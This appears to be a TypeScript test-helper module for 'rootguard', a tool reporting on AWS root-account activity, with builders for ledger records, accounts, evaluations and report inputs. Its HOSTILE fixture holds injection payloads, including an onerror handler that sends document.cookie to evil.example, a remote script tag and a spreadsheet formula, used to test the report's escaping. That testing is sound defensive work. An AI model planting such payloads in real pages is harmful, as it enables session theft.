/** Builders for the report tests: ledger records, accounts, evaluations and a report input, valid by default. */
import { join, relative } from 'node:path';
import { type CliIo, run } from '../../cli/index';
import { SAMPLE_LEDGER_PATH } from '../../examples/generate-sample-ledger';
import type { FrameworkFile } from '../../lib/frameworks';
import { type LedgerRecord, ledgerRecordSchema } from '../../lib/root-activity-ledger';
import {
  computeReport,
  type ReportAccount,
  type ReportData,
  type ReportInput,
  type RuleEvaluationRecord,
} from '../../report/kpi';
import { resolvePeriod } from '../../report/period';
import { argv, captureIo } from './cli-io';

let sequence = 0;

/** A successful console sign-in with MFA that paged in 30 s; `overrides` win (undefined removes a field). */
export function ledgerRecord(overrides: Partial<LedgerRecord> = {}): LedgerRecord {
  sequence += 1;
  const eventTime = overrides.eventTime ?? '2026-08-01T10:00:00Z';
  const record: Record<string, unknown> = {
    eventId: `evt-${sequence}`,
    accountId: '222222222222',
    eventTime,
    eventName: 'ConsoleLogin',
    eventSource: 'signin.amazonaws.com',
    kind: 'console-sign-in',
    session: 'root-credentials',
    outcome: 'success',
    region: 'us-east-1',
    sourceIp: '198.51.100.7',
    userAgent: 'Mozilla/5.0',
    mfaUsed: true,
    rootSessionId: `rs-${sequence}`,
    paged: true,
    alertedAt: new Date(Date.parse(eventTime) + 30_000).toISOString(),
    alertLatencyMs: 30_000,
    ...overrides,
  };
  for (const key of Object.keys(record)) if (record[key] === undefined) delete record[key];
  return ledgerRecordSchema.parse(record);
}

/** An API call appended to a paged session (no page of its own). */
export const apiCall = (overrides: Partial<LedgerRecord> = {}): LedgerRecord =>
  ledgerRecord({
    eventName: 'RunInstances',
    eventSource: 'ec2.amazonaws.com',
    kind: 'api-call',
    mfaUsed: undefined,
    paged: false,
    alertedAt: undefined,
    alertLatencyMs: undefined,
    ...overrides,
  });

export const ACCOUNTS: ReportAccount[] = [
  { accountId: '111111111111', name: 'management', ouPath: 'Root' },
  { accountId: '222222222222', name: 'prod', ouPath: 'Root/Workloads/Prod' },
  { accountId: '333333333333', name: 'dev', ouPath: 'Root/Workloads/Dev' },
];

export const evaluation = (
  accountId: string,
  ruleId: string,
  status: RuleEvaluationRecord['status'],
  lastEvaluated: string | undefined = '2026-09-30T20:00:00Z',
  annotation = '',
): RuleEvaluationRecord => ({ accountId, ruleId, status, annotation, lastEvaluated });

/** One small framework: a requirement two rules prove and one no rule covers. */
export const FRAMEWORK: FrameworkFile = {
  framework: 'Test Benchmark',
  version: '1.0',
  source: 'https://example.com/benchmark',
  verified: 'a fixture for the report tests',
  requirements: [
    { id: '1.2', title: 'Root has hardware MFA', ruleIds: ['root-hardware-mfa', 'root-access-keys'] },
    { id: '1.10', title: 'Something rootguard does not check', ruleIds: [], note: 'Outside rootguard.' },
  ],
};

/** A report input for 2026-Q3, as of 2026-09-30T22:00Z, with the given ledger and evaluations. */
export function reportInput(overrides: Partial<ReportInput> = {}): ReportInput {
  const asOf = new Date('2026-09-30T22:00:00Z');
  return {
    organization: { id: 'o-a1b2c3d4e5', name: 'Test Org' },
    asOf,
    period: resolvePeriod({ quarter: '2026-Q3' }, asOf),
    accounts: ACCOUNTS,
    evaluations: [],
    ledger: [],
    sources: { compliance: 'test', ledger: 'test' },
    ruleIds: ['root-hardware-mfa', 'root-access-keys'],
    frameworks: [FRAMEWORK],
    ...overrides,
  };
}

export const REPO_ROOT = join(__dirname, '..', '..');
export const SAMPLE_ORG = join(REPO_ROOT, 'examples', 'sample-org.json');
/** The sample ledger, where examples/generate-sample-ledger.ts writes it. */
export const SAMPLE_LEDGER = SAMPLE_LEDGER_PATH;

/**
 * `rootguard report --facts <the sample organization> ...args` (its root activity source, --out, options);
 * `io` adds test I/O such as the live reads. Returns the exit code and what it printed.
 */
export async function reportSampleFacts(args: string[], io: Partial<CliIo> = {}) {
  const captured = captureIo(io);
  // Relative, as a user types them: the report shows its sources as given.
  const code = await run(argv('report', '--facts', relative(process.cwd(), SAMPLE_ORG), ...args), captured);
  return { code, io: captured };
}

/** `rootguard report` of the sample organization and its ledger export into `outDir`. */
export const reportSampleOrg = (outDir: string, ...extra: string[]) =>
  reportSampleFacts(['--ledger', relative(process.cwd(), SAMPLE_LEDGER), '--out', outDir, ...extra]);

/** What a member account's administrator controls: his account's name, its OU's name, annotations, user agents. */
export const HOSTILE = {
  name: '<img src=x onerror="fetch(`https://evil.example/`+document.cookie)">',
  ou: "Root/<svg onload=alert('ou')>",
  annotation: `</td><script src="https://evil.example/x.js"></script><td>=HYPERLINK("https://evil.example")`,
} as const;

/** A report whose organization, account, OU, annotation and user agent all try to inject markup. */
export function hostileReport(): ReportData {
  return computeReport(
    reportInput({
      organization: { id: 'o-a1b2c3d4e5', name: '<b>Org</b>' },
      accounts: [...ACCOUNTS, { accountId: '444444444444', name: HOSTILE.name, ouPath: HOSTILE.ou }],
      evaluations: [
        evaluation('444444444444', 'root-hardware-mfa', 'NON_COMPLIANT', undefined, HOSTILE.annotation),
      ],
      ledger: [ledgerRecord({ accountId: '444444444444', userAgent: '<script>alert(1)</script>' })],
    }),
  );
}
